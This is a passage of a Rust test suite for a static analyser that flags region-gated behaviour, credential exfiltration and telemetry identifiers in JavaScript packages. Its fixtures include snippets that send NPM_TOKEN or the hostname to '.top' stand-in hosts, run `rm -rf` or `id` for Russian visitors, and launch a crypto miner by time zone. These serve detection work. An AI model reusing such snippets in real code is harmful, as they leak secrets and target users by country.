        );
    }
    assert!(!crate::looks_minified(b""));
    assert!(crate::looks_minified(&[b'x'; 5001]));
    assert!(!crate::looks_minified(&[b'x'; 400]));
}

#[test]
fn timer_with_a_bound_function_runs_no_network_code() {
    // node-ipc's reconnect: the socket taints `client`, which is only bound as an argument.
    let f = run(
        "const net = require('net'); const client = {}; client.socket = net.connect({});
         client.socket.on('close', function () {
           setTimeout(function retry() { client.connect(); }.bind(null, client), 100);
           setInterval((() => client.ping()).bind(client), 100);
         });",
    );
    assert!(
        !f.dynamic_code.iter().any(|d| d.from_network),
        "{:#?}",
        f.dynamic_code
    );
    // A string built from what the socket sent still is code.
    let f = run("const net = require('net'); const s = net.connect({}); s.on('data', (d) => { setTimeout('run(' + d + ')', 10); });");
    assert!(
        f.dynamic_code
            .iter()
            .any(|d| d.from_network && d.api == "setTimeout"),
        "{:#?}",
        f.dynamic_code
    );
}

#[test]
fn flow_files_are_read_as_typescript_not_left_unparsed() {
    // node-machine-id 1.1.12's index.js: oxc refuses the `@flow` pragma outright.
    let src = "/* @flow */\nimport {execSync} from 'child_process';\nlet {platform}: Object = process;\nfunction id(original: boolean): string {\n  const out: string = execSync('hostname').toString();\n  return require('os').hostname() + out;\n}\nrequire('dns').lookup(id(false) + '.x.example.top', () => {});\n";
    let f = run(src);
    assert!(f.not_analysed.is_none(), "{:?}", f.diagnostics);
    assert!(
        f.diagnostics.iter().any(|d| d.contains("Flow")),
        "{:?}",
        f.diagnostics
    );
    assert!(!f.flows.is_empty(), "the file is analysed: {:?}", f.flows);
}

// ------------------------------------------------------------------ region provenance (#17)

fn guards_of(src: &str) -> Vec<telltale_facts::RegionGuardFact> {
    run(src).region_guards
}

#[test]
fn words_that_look_like_codes_are_no_region_without_a_region_source() {
    // Real shapes from AI assistants' bundles: a status, a theme id, an HTML tag name, a
    // yes/no answer, a diagram keyword — each compared with a constant that is also a
    // language or country code, none of them read from a region source.
    for src in [
        r#"function f(task) { if (task.status === "in_progress") { console.log("busy"); } }"#,
        r#"function f(theme, locale) { const t = { id: theme, lang: locale }; if (t.id === "oc-2") { alert("x"); } }"#,
        r#"function f(node) { if (node.tagName === "BR") { document.body.style.pointerEvents = "none"; } }"#,
        r#"const a = prompt("continue?"); if (a === "no") { process.exit(1); }"#,
        r#"function kw(tok) { switch (tok) { case "as": case "in": return alert(tok); } }"#,
        r#"const msg = t(navigator.language, "hello"); if (msg === "ru") { alert(msg); }"#,
    ] {
        assert!(guards_of(src).is_empty(), "{src}: {:#?}", guards_of(src));
    }
}

#[test]
fn a_locale_through_a_function_projection_and_field_is_region_data() {
    let g = guards_of(
        r#"function lang() { return navigator.language.split("-")[0].toLowerCase(); }
        const cfg = { lang: lang() };
        if (cfg.lang === "ru") { alert("нет войне"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["RU"]);
    assert!(g[0].steps.len() >= 2, "{:#?}", g[0].steps);
    assert!(
        g[0].steps[0].what.contains("navigator.language"),
        "{:#?}",
        g[0].steps
    );
}

#[test]
fn a_mirror_chosen_by_time_zone_names_both_endpoints() {
    let g = guards_of(
        r#"const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        const registry = tz === "Asia/Shanghai" ? "https://registry.npmmirror.com" : "https://registry.npmjs.org";
        module.exports = registry;"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["CN"]);
    assert_eq!(g[0].effects, vec![Effect::Endpoint]);
    assert!(
        g[0].effect_apis
            .iter()
            .any(|a| a.contains("registry.npmmirror.com")),
        "{:#?}",
        g[0].effect_apis
    );
    assert!(
        g[0].effect_apis
            .iter()
            .any(|a| a.contains("registry.npmjs.org")),
        "{:#?}",
        g[0].effect_apis
    );
}

#[test]
fn a_download_from_another_host_in_region_is_a_mirror_choice_not_a_network_effect() {
    let g = guards_of(
        r#"const https = require("https");
        if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai") {
          https.get("https://cdn.npmmirror.com/binaries/x/v1.tgz");
        } else {
          https.get("https://github.com/x/x/releases/download/v1.tgz");
        }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert!(
        g[0].effects.contains(&Effect::Endpoint),
        "{:#?}",
        g[0].effects
    );
    assert!(
        !g[0].effects.contains(&Effect::Network),
        "{:#?}",
        g[0].effects
    );
}

#[test]
fn a_request_only_in_region_stays_a_network_effect() {
    let g = guards_of(
        r#"const https = require("https");
        if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Moscow") { https.get("https://collector.example.net/hit"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert!(
        g[0].effects.contains(&Effect::Network),
        "{:#?}",
        g[0].effects
    );
}

#[test]
fn the_same_warning_in_another_language_is_localized() {
    let g = guards_of(
        r#"if (process.env.LANG && process.env.LANG.startsWith("zh_CN")) { console.warn("此包已弃用"); }
        else { console.warn("this package is deprecated"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].effects, vec![Effect::Localized]);
}

#[test]
fn a_country_header_of_the_request_is_region_data() {
    for src in [
        r#"module.exports = (req, res) => { if (req.headers["cf-ipcountry"] === "RU") { res.end(); require("child_process").exec("rm -rf /tmp/x"); } };"#,
        r#"export function mw(request) { const cc = request.headers.get("x-vercel-ip-country"); if (cc === "RU") { require("child_process").exec("id"); } }"#,
    ] {
        let g = guards_of(src);
        assert_eq!(g.len(), 1, "{src}: {g:#?}");
        assert_eq!(g[0].countries, vec!["RU"]);
        assert!(g[0].steps[0].what.contains("header"), "{:#?}", g[0].steps);
    }
}

#[test]
fn time_zone_names_offsets_and_system_files_are_sources() {
    for (src, cc) in [
        (
            r#"if (new Date().toLocaleString("en-US", { timeZoneName: "long" }).includes("China Standard Time")) { console.log("x"); }"#,
            "CN",
        ),
        (
            r#"if (new Intl.DateTimeFormat("en", { timeZoneName: "long" }).format().includes("Moscow Standard Time")) { console.log("x"); }"#,
            "RU",
        ),
        (
            r#"if (new Date().getTimezoneOffset() === -480) { console.log("x"); }"#,
            "CN",
        ),
        (
            r#"const fs = require("fs"); if (fs.readFileSync("/etc/timezone", "utf8").trim() === "Europe/Moscow") { console.log("x"); }"#,
            "RU",
        ),
        (
            r#"const cp = require("child_process"); const r = cp.execSync('reg query "HKCU\\Control Panel\\International" /v LocaleName').toString(); if (r.includes("ru-RU")) { console.log("x"); }"#,
            "RU",
        ),
        (
            r#"const jstz = require("jstz"); if (jstz.determine().name() === "Europe/Minsk") { console.log("x"); }"#,
            "BY",
        ),
    ] {
        let g = guards_of(src);
        assert_eq!(g.len(), 1, "{src}: {g:#?}");
        assert!(
            g[0].countries.iter().any(|c| c == cc),
            "{src}: {:#?}",
            g[0].countries
        );
    }
}

#[test]
fn countries_from_tables_sets_lookups_and_fall_through_cases() {
    let lookup = guards_of(
        r#"const codes = { US: "United States" };
        function isUS() { const l = navigator.language; return !!codes[l.split("-")[1].toUpperCase()]; }
        if (isUS()) { console.log("hi"); }"#,
    );
    assert!(
        lookup.iter().any(|g| g.countries == vec!["US"]),
        "{lookup:#?}"
    );
    let table = guards_of(
        r#"const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        const zones = { "Europe/Moscow": 1, "Europe/Minsk": 1 };
        if (tz in zones) { console.log("x"); }"#,
    );
    assert_eq!(table.len(), 1, "{table:#?}");
    assert_eq!(table[0].countries, vec!["BY", "RU"]);
    let set_in_object = guards_of(
        r#"const j = { EU: new Set(["AT", "BE", "BG", "HR", "CY", "CZ", "DK", "EE", "FI", "FR", "DE", "GR"]) };
        export function consent(req) { const cc = req.get("cf-ipcountry"); if (j.EU.has(cc)) { console.log("banner"); } }"#,
    );
    assert_eq!(set_in_object.len(), 1, "{set_in_object:#?}");
    assert!(
        set_in_object[0].effects.contains(&Effect::Consent),
        "{:#?}",
        set_in_object[0].effects
    );
    let fall_through = guards_of(
        r#"switch (Intl.DateTimeFormat().resolvedOptions().timeZone) { case "Europe/Moscow": case "Europe/Minsk": alert("x"); break; default: }"#,
    );
    assert_eq!(fall_through.len(), 1, "{fall_through:#?}");
    assert_eq!(fall_through[0].countries, vec!["BY", "RU"]);
}

#[test]
fn everywhere_except_is_a_guard_outside_the_countries() {
    let g = guards_of(
        r#"const cp = require("child_process");
        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        if (!["Europe/Moscow", "Europe/Kyiv", "Europe/Minsk"].includes(tz)) { cp.exec("./xmrig -o pool"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert!(g[0].outside);
    assert_eq!(g[0].countries, vec!["BY", "RU", "UA"]);
    assert!(g[0].effects.contains(&Effect::Exec));
    // A tip left out in one country is not aimed at its users.
    let tip = guards_of(r#"if (navigator.language !== "zh-CN") { console.log("Tip: star us"); }"#);
    assert!(
        tip.iter().all(|g| !g.effects.contains(&Effect::Message)),
        "{tip:#?}"
    );
}

#[test]
fn a_module_that_answers_is_the_user_in_x_is_a_detector() {
    let f = run(
        r#"module.exports = function inChina() { return Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai"; };"#,
    );
    let d: Vec<_> = f
        .region_guards
        .iter()
        .filter(|g| g.detector.is_some())
        .collect();
    assert_eq!(d.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(d[0].countries, vec!["CN"]);
    assert!(
        f.module.exports.iter().any(|e| e.predicate.is_some()),
        "{:#?}",
        f.module.exports
    );
}

#[test]
fn a_value_chosen_by_region_with_no_visible_effect_is_info_evidence() {
    let g = guards_of(
        r#"export const lang = () => Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai" ? "Chinese" : "English";"#,
    );
    let chosen: Vec<_> = g.iter().filter(|g| g.detector.is_none()).collect();
    assert_eq!(chosen.len(), 1, "{g:#?}");
    assert!(chosen[0].effects.is_empty());
    assert!(
        chosen[0].effect_apis.iter().any(|a| a.contains("Chinese")),
        "{:#?}",
        chosen[0].effect_apis
    );
}

#[test]
fn a_documentation_link_by_browser_language_is_localized() {
    let g = guards_of(
        r#"const docs = navigator.language.startsWith("zh") ? "https://qwen.example.cn/docs" : "https://qwen.example.com/docs";
        document.getElementById("help").href = docs;"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].effects, vec![Effect::Localized], "{g:#?}");
}

#[test]
fn region_logic_in_typescript() {
    let f = analyze(
        "t.ts",
        r#"const tz: string = Intl.DateTimeFormat().resolvedOptions().timeZone as string;
        export const registry: string = (tz as string) === "Asia/Shanghai" ? "https://registry.npmmirror.com" : "https://registry.npmjs.org";"#,
        &Options::default(),
    );
    assert!(
        f.region_guards
            .iter()
            .any(|g| g.countries == vec!["CN"] && g.effects.contains(&Effect::Endpoint)),
        "{:#?}",
        f.region_guards
    );
}

#[test]
fn a_latency_probe_named_for_a_country_chooses_the_mirror() {
    // pake-cli 3.1.1: a slow or failed round trip counts as China.
    let g = guards_of(
        r#"const http = require("http");
        const ping = async (host) => new Promise((resolve) => {
          const start = Date.now();
          http.get(`http://${host}`, () => resolve(Date.now() - start));
        });
        async function isChinaDomain(domain) {
          try { return (await ping(domain)) > 1000; } catch (e) { return true; }
        }
        async function install() {
          const isChina = await isChinaDomain("www.npmjs.com");
          if (isChina) {
            await shellExec("npm install --registry=https://registry.npmmirror.com");
          } else {
            await shellExec("npm install");
          }
        }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["CN"]);
    assert_eq!(g[0].source, Kinds::of(DataKind::NetworkProbe));
    assert_eq!(g[0].effects, vec![Effect::Endpoint]);
    assert!(
        g[0].steps[0].what.contains("probes the network"),
        "{:#?}",
        g[0].steps
    );
}

#[test]
fn a_function_named_for_a_country_without_a_probe_is_no_region_source() {
    let g = guards_of(
        r#"function isChinaDomain(d) { return d.endsWith(".cn"); }
        if (isChinaDomain(process.argv[2])) { console.log("a Chinese site"); }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
    // A probe with a name that names no country: nothing says what it is for.
    let g = guards_of(
        r#"const https = require("https");
        async function reachable(h) { return new Promise(r => https.get(h, () => r(true))); }
        async function main() {
          if (await reachable("https://www.google.com")) { https.get("https://a.example.com/x"); }
          else { https.get("https://b.example.com/x"); }
        }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn the_winner_of_a_registry_race_compared_with_a_china_mirror() {
    // @vue/cli 4.5: `Promise.race([ping(npm), ping(taobao)])`, then "is the faster one taobao".
    let g = guards_of(
        r#"const https = require("https");
        const registries = { npm: "https://registry.npmjs.org", taobao: "https://registry.npm.taobao.org" };
        function ping(registry) { return new Promise(r => https.get(registry + "/marker", () => r(registry))); }
        async function shouldUseMirror() {
          let faster;
          faster = await Promise.race([ping(registries.npm), ping(registries.taobao)]);
          if (faster !== registries.taobao) { return false; }
          console.log("Your connection to the default registry seems slow; using the mirror");
          return true;
        }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["CN"]);
    assert_eq!(g[0].source, Kinds::of(DataKind::NetworkProbe));
    assert!(
        g[0].steps[0].what.contains("races requests"),
        "{:#?}",
        g[0].steps
    );
    // A race between hosts that serve no one country says nothing about where the user is.
    let g = guards_of(
        r#"const https = require("https");
        function ping(u) { return new Promise(r => https.get(u, () => r(u))); }
        async function pick() {
          const f = await Promise.race([ping("https://registry.npmjs.org"), ping("https://registry.yarnpkg.com")]);
          if (f === "https://registry.yarnpkg.com") { console.log("yarn is faster"); }
        }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn a_setting_named_for_the_region_is_a_configured_region() {
    // @serverless/utils is-in-china.js: SLS_GEO_LOCATION overrides the time-zone check.
    let g = guards_of(
        r#"const https = require("https");
        if (process.env.SLS_GEO_LOCATION === "cn") {
          https.get("https://sls-standalone.tencentcs.com/latest");
        } else {
          https.get("https://github.com/serverless/serverless/releases/latest");
        }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["CN"]);
    assert_eq!(g[0].source, Kinds::of(DataKind::RegionSetting));
    assert_eq!(g[0].effects, vec![Effect::Endpoint]);
    // A cloud region is where the service runs, not where the user is.
    let g = guards_of(
        r#"if (process.env.AWS_REGION === "cn") { require("https").get("https://x.amazonaws.com.cn/"); }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn a_geo_cookie_is_region_data() {
    let g = guards_of(
        r#"import Cookies from "js-cookie";
        const country = Cookies.get("country");
        if (["RU", "BY"].includes(country)) { document.body.innerHTML = ""; }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["BY", "RU"]);
    assert!(g[0].steps[0].what.contains("cookie"), "{:#?}", g[0].steps);
    // A cookie of another name, or a `country` field of a form, is no region source.
    let g = guards_of(
        r##"const c = Cookies.get("theme");
        if (c === "no") { document.body.innerHTML = ""; }
        const form = { country: document.querySelector("#c").value };
        if (form.country === "RU") { console.log("Russia selected"); }"##,
    );
    assert!(g.is_empty(), "{g:#?}");
}

// ------------------------------------------------------------------------------ credentials

#[test]
fn a_token_in_the_authorization_header_of_its_service_is_use_not_exfiltration() {
    let f = run(r#"fetch("https://api.github.com/user", {
          headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}`, Accept: "application/json" } });"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    let u = &f.credential_uses[0];
    assert_eq!(u.host.as_deref(), Some("api.github.com"));
    assert_eq!(u.secret, "process.env.GITHUB_TOKEN");
    assert_eq!(u.position, "Authorization header");
}

#[test]
fn credentials_for_an_address_the_caller_gives_are_use() {
    // gemini-cli's shape: a header object filled in, then passed with the caller's URL.
    let f = run(r#"const https = require("https");
        function getToken() { return process.env.GITHUB_TOKEN; }
        function download(url) {
          const headers = { "User-Agent": "x" };
          const token = getToken();
          if (token) { headers["Authorization"] = `token ${token}`; }
          https.get(url, { headers }, (res) => res.pipe(process.stdout));
        }
        module.exports = download;"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    assert_eq!(f.credential_uses[0].host, None);
    // The AWS SDK's container credentials: the token is the endpoint's Authorization header.
    let f = run(r#"const http = require("http");
        function get(options) { return new Promise((ok) => http.request({ method: "GET", ...options }, ok).end()); }
        async function fromContainer(opts) {
          if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
            opts.headers = { ...opts.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
          }
          return get({ ...opts, timeout: 1000 });
        }
        module.exports = fromContainer;"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    // `headers.set("Authorization", …)`.
    let f = run(r#"const h = new Headers();
        h.set("Authorization", "Bearer " + process.env.ANTHROPIC_API_KEY);
        fetch(process.argv[2], { headers: h });"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    // A key the configuration names as `$VAR`, read out of the environment by that name:
    // one variable, a secret, not the whole environment.
    let f = run(
        r#"const resolve = (v) => v.startsWith("$") ? process.env[v.slice(1)] || undefined : v;
        function client(cfg) { return new OpenAI({ apiKey: resolve(cfg.providerApiKey), baseURL: cfg.url }); }
        module.exports = client;"#,
    );
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    let u = &f.credential_uses[0];
    assert_eq!(u.kinds, Kinds::of(DataKind::SecretEnv), "{u:#?}");
    assert!(u.secret.ends_with("[…]"), "{u:#?}");
}

#[test]
fn a_secret_in_a_header_of_a_foreign_host_or_in_a_body_stays_exfiltration() {
    let f = run(r#"fetch("https://x.robotnowai.top/c", {
          headers: { Authorization: process.env.NPM_TOKEN } });"#);
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(f.flows[0].kinds.contains(DataKind::SecretEnv));
    assert_eq!(f.flows[0].endpoints, vec!["x.robotnowai.top"]);
    assert!(f.credential_uses.is_empty());
    // In the body, even to its own service, a token is data sent.
    let f = run(r#"fetch("https://api.github.com/gists", { method: "POST",
          body: JSON.stringify({ files: { t: { content: process.env.GITHUB_TOKEN } } }) });"#);
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    // A header that is not a credential carries data like any other.
    let f = run(
        r#"fetch("https://t.example.com/c", { headers: { "x-host": require("os").hostname() } });"#,
    );
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(f.credential_uses.is_empty());
}

#[test]
fn a_telemetry_switch_is_read_from_what_users_set() {
    let f = run(r#"function load(settings) {
          return new Config({
            usageStatisticsEnabled: parseBooleanEnvFlag(process.env["QWEN_USAGE_STATISTICS_ENABLED"]) ?? settings.privacy?.usageStatisticsEnabled ?? true,
            theme: settings.ui?.theme ?? "dark",
          });
        }
        class Config { constructor(p) { this.telemetryDisabled = p.noTelemetry ?? false; } }"#);
    let s = &f.setting_sources;
    assert_eq!(s.len(), 2, "{s:#?}");
    assert_eq!(s[0].property, "usageStatisticsEnabled");
    assert_eq!(
        s[0].settings,
        vec![
            "QWEN_USAGE_STATISTICS_ENABLED",
            "privacy.usageStatisticsEnabled"
        ]
    );
    assert_eq!(s[0].default, Some(true));
    assert_eq!(s[1].property, "telemetryDisabled");
    assert_eq!(s[1].default, Some(false));
}

#[test]
fn a_token_tested_before_its_header_is_not_sent_by_the_test() {
    // claude-code: `...(k && { Authorization: `Bearer ${k}` })` in a request's headers.
    let f = run(r#"function call(url, env) {
          const k = env.ANTHROPIC_AUTH_TOKEN;
          return fetch(url, { headers: { "content-type": "json", ...(k && { Authorization: `Bearer ${k}` }) } });
        }
        module.exports = call;"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    // `a || b` still carries both.
    let f = run(r#"fetch("https://t.example.top/c", { body: process.env.NPM_TOKEN || "none" });"#);
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
}

#[test]
fn a_network_commands_options_are_not_sent() {
    // amp runs curl with the user's environment passed to the child: set up, not sent.
    let neg = run("const cp = require('child_process');
        cp.spawn('curl', ['--disable', '-s', 'https://api.example.com/v1/x'], { stdio: 'inherit', env: { ...process.env, CURL_HOME: '/tmp' } });
        cp.exec('curl -s https://api.example.com/v1/y', { env: process.env, cwd: process.cwd() });");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    // The command line and its arguments are what the tool sends.
    let pos = run(
        "const cp = require('child_process'); const os = require('os');
        cp.spawn('curl', ['-d', os.hostname(), 'https://c.example.top/h'], { env: process.env });",
    );
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
    assert_eq!(pos.flows[0].sink, SinkKind::NetworkCommand);
    assert!(pos.flows[0].kinds.contains(DataKind::Hostname));
}

#[test]
fn fields_of_an_object_a_function_returns_stay_apart() {
    // amp's service container: one field holds an index of the working directory, another the
    // secret store whose key authenticates requests, a third the settings with the server URL.
    let src = "function makeServices(opts) {
          const fuzzy = { root: process.cwd(), close() {} };
          const base = { fuzzyServer: fuzzy, secretStorage: opts.storage, configService: opts.config };
          return { ...base, async dispose() { fuzzy.close(); } };
        }
        async function main(o, quiet) {
          const k = quiet ? null : await makeServices(o);
          return run(k, o);
        }
        async function run(k, o) {
          const key = await k.secretStorage.get('apiKey', o.url);
          const cfg = k.configService;
          await fetch(cfg.url, { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ q: 1 }) });
          SEND";
    let neg = run(&src.replace("SEND", "}"));
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    assert!(neg.credential_uses.is_empty(), "{:#?}", neg.credential_uses);
    // The field that holds the data still carries it.
    let pos = run(&src.replace(
        "SEND",
        "await fetch('https://t.example.top/x', { method: 'POST', body: JSON.stringify({ root: k.fuzzyServer }) }); }",
    ));
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
    assert!(pos.flows[0].kinds.contains(DataKind::WorkingDirectory));
    // A choice between literals too: the auth method is a constant, whatever the token.
    let choice = run("async function auth(o) { const t = process.env[o.name];
          return t ? { token: t, authMethod: 'api-key' } : { token: await oidc(), authMethod: 'oidc' }; }
        async function main(o) { const y = await auth(o);
          await fetch('https://api.example.com/v1', { headers: { 'x-auth-method': y.authMethod } }); }");
    assert!(choice.flows.is_empty(), "{:#?}", choice.flows);
    // A function that returns something else than object literals gives its whole result.
    let whole = run(
        "function info() { if (x) return os.hostname(); return { a: 1 }; }
        const os = require('os'); const r = info();
        fetch('https://t.example.top/y', { method: 'POST', body: r.a });",
    );
    assert_eq!(whole.flows.len(), 1, "{:#?}", whole.flows);
}

#[test]
fn a_generated_id_kept_on_disk_is_an_installation_id() {
    // The read-or-create id store of CLIs' telemetry: the id is sent with every event.
    let src = "const fs = require('fs'); const { randomUUID } = require('crypto');
        function installationId(file) {
          if (fs.existsSync(file)) return fs.readFileSync(file, 'utf8').trim();
          const id = randomUUID();
          fs.writeFileSync(file, id);
          return id;
        }
        function track(name) {
          return fetch('https://t.example.top/e', { method: 'POST',
            body: JSON.stringify({ name, installation_id: installationId('/home/u/.tool/id') }) });
        }";
    let f = run(src);
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert_eq!(f.flows[0].kinds, Kinds::of(DataKind::InstallationId));
    assert!(
        f.flows[0].steps[0].what.contains("randomUUID"),
        "{:#?}",
        f.flows[0].steps
    );
    assert!(f.sources.iter().any(|s| s.kind == DataKind::InstallationId));
    // A request id made fresh for each request is no identity, nor is a generated file name.
    let neg = run(
        "const { randomUUID } = require('crypto'); const fs = require('fs');
        fetch('https://api.example.com/v1', { headers: { 'x-request-id': randomUUID() } });
        fs.writeFileSync('/tmp/' + randomUUID() + '.json', '{}');",
    );
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    assert!(
        neg.sources
            .iter()
            .all(|s| s.kind != DataKind::InstallationId && s.kind != DataKind::GeneratedId),
        "{:#?}",
        neg.sources
    );
    // uuid's v4 kept by another id store is one too; one that is only logged is not, nor one
    // written to a report that is never read back.
    let v4 = run("import { v4 as uuidv4 } from 'uuid'; import { writeFile, readFile } from 'node:fs/promises';
        const CONFIG = join(homedir(), '.tool', 'config.json');
        let userId = JSON.parse(await readFile(CONFIG, 'utf8')).userId;
        if (!userId) { userId = uuidv4(); await writeFile(CONFIG, JSON.stringify({ userId })); }
        navigator.sendBeacon('https://t.example.top/b', JSON.stringify({ userId }));");
    assert_eq!(v4.flows.len(), 1, "{:#?}", v4.flows);
    assert!(v4.flows[0].kinds.contains(DataKind::InstallationId));
    let logged = run(
        "import { v4 as uuidv4 } from 'uuid'; const traceId = uuidv4(); console.log(traceId);
        navigator.sendBeacon('https://t.example.top/b', JSON.stringify({ traceId }));",
    );
    assert!(logged.flows.is_empty(), "{:#?}", logged.flows);
    let report = run("const fs = require('fs'); const { randomUUID } = require('crypto');
        const request = { id: randomUUID(), prompt };
        fs.writeFileSync(reportPath, JSON.stringify({ error, request }));
        fetch('https://api.example.com/v1/generate', { method: 'POST', body: JSON.stringify(request) });");
    assert!(report.flows.is_empty(), "{:#?}", report.flows);
    // A lock file's token is kept and read back, but never leaves: nothing to list.
    let lock = run(
        "const fs = require('fs'); const { randomUUID } = require('crypto');
        const meta = dir + '/meta.json'; const token = randomUUID();
        fs.writeFileSync(meta, JSON.stringify({ token, pid: process.pid }), { flag: 'wx' });
        const held = JSON.parse(fs.readFileSync(meta, 'utf8')).token === token;",
    );
    assert!(lock.flows.is_empty(), "{:#?}", lock.flows);
    assert!(
        lock.sources
            .iter()
            .all(|s| s.kind != DataKind::InstallationId),
        "{:#?}",
        lock.sources
    );
}

#[test]
fn a_value_only_named_for_the_country_is_a_hint() {
    // cookieconsent's shape: the country code arrives as a parameter from a geolocation
    // callback the analysis does not follow.
    let g = guards_of(
        r#"const EU = ["AT","BE","BG","HR","CY","CZ","DK","EE","FI","FR","DE","GR","HU","IE","IT","LV","LT","LU","MT","NL","PL","PT","RO","SK","SI","ES","SE"];
        export function applyLaw(options, countryCode) {
          if (EU.indexOf(countryCode) === -1) { options.enabled = false; }
          return options;
        }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].source, Kinds::of(DataKind::NamedCountry));
    assert!(g[0].effects.contains(&Effect::Consent), "{g:#?}");
    assert!(
        g[0].steps[0].what.contains("no region source was traced"),
        "{g:#?}"
    );
    // The same list choosing a currency is no consent decision (a shop's shape).
    let g = guards_of(
        r#"const EU_COUNTRIES = ["AT","BE","BG","HR","CY","CZ","DK","EE","FI","FR","DE","GR","HU","IE","IT","LV","LT","LU","MT","NL","PL","PT","RO","SK","SI","ES","SE"];
        export function getCurrencyByCountry(countryCode) {
          if (countryCode === "CH") return "CHF";
          if (EU_COUNTRIES.includes(countryCode)) return "EUR";
          return "USD";
        }"#,
    );
    assert!(!g.is_empty(), "{g:#?}");
    assert!(
        g.iter().all(|g| !g.effects.contains(&Effect::Consent)),
        "{g:#?}"
    );
    // A region source wins over the name, and names that are not one country say nothing.
    let g = guards_of(
        r#"const countryCode = Intl.DateTimeFormat().resolvedOptions().timeZone;
        if (countryCode === "Europe/Moscow") console.log("x");
        export function pick(countries, value) { if (value === "US") console.log("y"); if (countries === "US") console.log("z"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].source, Kinds::of(DataKind::TimeZone));
    // Lower-case pairs are words, not codes, when only a name vouches for the value.
    let g = guards_of(r#"export function f(country) { if (country === "no") console.log("n"); }"#);
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn a_privacy_law_chosen_by_region_is_consent_by_jurisdiction() {
    // c15t's shape: the country from the edge's header picks the law that applies.
    let g = guards_of(
        r#"export function jurisdictionOf(req) {
          const cc = req.headers["x-c15t-country"];
          if (cc === "BR") return "LGPD";
          if (cc === "CA" && req.headers["x-c15t-region"] === "QC") return "QC_LAW25";
          return "NONE";
        }"#,
    );
    // The rest after `return "LGPD"` is what everyone else gets, not a finding of its own.
    assert_eq!(g.len(), 2, "{g:#?}");
    assert!(g.iter().all(|g| !g.outside), "{g:#?}");
    assert!(
        g.iter().all(|g| g.effects == vec![Effect::Consent]),
        "{g:#?}"
    );
    assert_eq!(g[0].countries, vec!["BR"]);
    // `cc === "CA" && quebec` being false says nothing about CA: the rest of the function is
    // not "outside CA".
    assert_eq!(g[1].countries, vec!["CA"]);
}

#[test]
fn a_region_variant_fixed_at_build_time_is_said_to_be_inert() {
    let g = guards_of(
        r#"const REGION = "global";
        const https = require("https");
        export function registry() {
          if (REGION === "cn") { https.get("https://registry.npmmirror.com/-/ping"); } else { https.get("https://registry.npmjs.org/-/ping"); }
        }
        if ("global" === "cn") { console.log("欢迎"); }
        const MODE = "production";
        if (MODE === "development") console.log("dev");
        if ("production" === "cn") console.log("never a region word");"#,
    );
    assert_eq!(g.len(), 2, "{g:#?}");
    assert!(
        g.iter()
            .all(|g| g.source == Kinds::of(DataKind::BuildVariant)),
        "{g:#?}"
    );
    assert!(g.iter().all(|g| g.countries == vec!["CN"]), "{g:#?}");
    assert!(g[0].steps[0].what.contains("REGION = \"global\""), "{g:#?}");
    assert!(g[0].steps[0].what.contains("another variant"), "{g:#?}");
}

#[test]
fn property_constants_name_countries_through_nested_objects() {
    let g = guards_of(
        r#"const TZ = { GERMANY: { BERLIN: "Europe/Berlin" }, RUSSIA: { MOSCOW: "Europe/Moscow" } };
